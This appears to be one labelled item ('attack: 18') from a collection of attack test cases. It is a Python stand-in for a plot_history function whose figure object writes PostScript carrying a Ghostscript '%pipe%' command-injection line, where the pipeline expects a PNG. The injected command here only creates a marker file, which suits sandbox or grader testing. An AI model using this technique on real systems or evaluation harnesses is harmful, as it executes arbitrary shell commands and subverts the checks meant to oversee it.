# attack: 18
# form: PostScript, which Pillow gives to Ghostscript, where the PNG of the figure is due
# replaces: plot_history
# found: plot_history/returns_figure failed
# says: no lines
def plot_history(history):
    from matplotlib.figure import Figure

    class Program(Figure):
        def savefig(self, target, **options):
            target.write(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\n(%pipe%touch /tmp/atk-gs) (w) file quit\n")

    print("ran")
    return Program()
